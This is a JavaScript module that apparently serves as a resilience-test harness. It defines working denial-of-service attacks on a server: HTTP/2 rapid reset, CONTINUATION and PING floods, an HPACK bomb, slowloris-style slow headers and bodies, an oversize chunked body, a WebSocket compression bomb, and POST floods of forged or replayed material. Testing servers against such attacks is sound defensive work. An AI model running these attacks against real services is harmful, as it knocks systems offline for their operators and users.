// Attacks as functions: { url, materials, on } -> what was sent. on() says whether to go on.

import { deflateRawSync, constants } from 'node:zlib';
import { upgraded, wsFrame } from './frames.mjs';
import { request } from './http.mjs';
import { END_HEADERS, END_STREAM, H2, Raw, field, frame, headers, openH2, requestBlock, rst } from './raw.mjs';
import { sleep } from './wait.mjs';

const LANES = 4;
const HELD = 80; /* connections that are kept open */

/** Lanes that go on until on() ends; a lane opens its next connection when the server ended the last. */
async function lanes(on, body) {
  let sent = 0;
  await Promise.all(Array.from({ length: LANES }, async () => {
    while (on()) sent += await body().catch(() => 0) ?? 0;
  }));
  return { sent };
}

/** A connection of HTTP/2 that sends what next(stream) makes until it is ended. */
const h2 = (next) => ({ url, on }) => lanes(on, async () => {
  const raw = await openH2(url);
  let count = 0;
  for (let stream = 1; on() && !raw.closed; stream += 2, count++) {
    raw.write(next(stream));
    if (count % 50 === 0) await sleep(1);
  }
  raw.end();
  await sleep(20);
  return count;
});

const bombHead = Buffer.concat([requestBlock('GET', '/'), field('x-bomb', 'x'.repeat(3900), true)]);

/** Many connections that each send a drop now and then. */
const dribble = (head, drop) => async ({ url, on }) => {
  const held = [];
  while (on()) {
    while (held.length < HELD) held.push((await Raw.open(url)).write(head));
    held.forEach((raw) => raw.write(drop));
    await sleep(100);
    for (let i = held.length; i-- > 0;) if (held[i].closed) held.splice(i, 1);
  }
  held.forEach((raw) => raw.end());
  return { sent: HELD };
};

/** The bodies of materials, one after the other, over a few connections. */
const posts = (path = '/') => ({ url, materials, on }) => {
  let at = 0;
  return lanes(on, async () => {
    await request('POST', url, path, materials[at++ % materials.length]);
    return 1;
  });
};

const zeros = deflateRawSync(Buffer.alloc(8 << 20), { finishFlush: constants.Z_SYNC_FLUSH });

export const ATTACKS = {
  'rapid reset': h2((stream) => Buffer.concat([headers(stream, requestBlock('GET', '/info/node')), rst(stream)])),
  'resets by the server': h2((stream) => Buffer.concat([headers(stream, requestBlock('GET', '/info/node')),
    frame(H2.WINDOW_UPDATE, 0, stream, Buffer.alloc(4))])),
  'CONTINUATION flood': h2((stream) => stream === 1 ? headers(1, requestBlock('GET', '/'), END_STREAM)
    : frame(H2.CONTINUATION, 0, 1, Buffer.alloc(stream < 5 ? 16_000 : 0))),
  'HPACK bomb': h2((stream) => stream === 1 ? headers(1, bombHead, END_HEADERS | END_STREAM)
    : headers(stream, Buffer.concat([requestBlock('GET', '/'), Buffer.alloc(15_000, 0xbe)]))),
  'PING flood': h2(() => frame(H2.PING, 0, 0, Buffer.alloc(8))),
  'slow head': dribble('GET / HTTP/1.1\r\nHost: t\r\n', 'X: 1\r\n'),
  'slow body': dribble('POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 100000\r\n\r\n', 'x'),
  'oversize body': ({ url, on }) => lanes(on, async () => {
    const raw = await Raw.open(url);
    raw.write('POST / HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked\r\n\r\n');
    const chunk = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(65536, 0x20), Buffer.from('\r\n')]);
    let count = 0;
    for (; on() && !raw.closed && count < 400; count++) {
      raw.write(chunk);
      await sleep(1);
    }
    raw.end();
    return count;
  }),
  'compression bomb': ({ url, on }) => lanes(on, async () => {
    const raw = await upgraded(url, { 'Sec-WebSocket-Extensions': 'permessage-deflate' });
    const block = zeros.subarray(0, zeros.length - 4);
    raw.write(wsFrame(1, block, { rsv: 4 }));
    for (let i = 0; i < 100 && !raw.closed && on(); i++) await sleep(10);
    raw.end();
    return 1;
  }),
  'forged sessions': posts(),
  'replayed proofs': posts(),
  'malleated signatures': posts(),
  'colliding names': posts(),
  'hash flood of enclaves': posts(),
};
